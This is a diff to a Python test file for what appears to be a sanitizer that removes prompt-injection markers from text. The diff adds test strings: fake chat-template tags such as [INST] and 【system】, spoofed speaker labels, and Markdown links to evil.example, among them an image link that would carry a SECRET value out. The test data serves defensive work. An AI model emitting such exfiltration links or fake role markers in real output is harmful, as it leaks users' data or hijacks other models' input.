@@ -29,7 +29,8 @@ TAGS = [
 ]  # fmt: skip
 BRACKETS = [
     "[INST]", "[SYSTEM]", "[TOOL_CALLS]", "[PREFIX]", "[gMASK]", "[AVAILABLE_TOOLS]", "[#deadbeef]", "［#deadbeef］",
-    "【system】", "![x](https://evil.example/p?d=SECRET)", "[click](https://evil.example)",
+    "[a=［INST］]", "['【system】']", "[a=b](//evil.example)", "[a=b]: //evil.example", "[0]（//evil.example)",
+    "<0x0A>", "【system】", "![x](https://evil.example/p?d=SECRET)", "[click](https://evil.example)",
 ]  # fmt: skip
 SPEAKERS = [
     "Human:", "Assistant:", "SYSTEM:", "Tool:", "Agent:", "Developer:", "Q:", "系统：", "Пользователь:", "Система:",
@@ -96,6 +97,8 @@ def test_other_ends_of_lines_begin_none(ending: str) -> None:
         "a -> b, c >= d", "operating system: linux", "system call failed: EPERM",
         "curl -d action=deploy # see issue #12", 'shell({"command":"systemctl status user@1000"})', "100%",
         "https://x.example/?a=b%20c&copy=2&d=%25", "C:\\new\\user\\x1 and \\d{3} of \\1",
+        "button[data-test=save] and a[href^='x'][id=y]", "df['a']['b'], x[0][-1:]", "[\"a\", 'b', 1.5]", "[A-Za-z0-9_]",
+        "a <= b <> c <5", "a < b",
     ],
 )  # fmt: skip
 def test_other_text_stays(harmless: str) -> None:
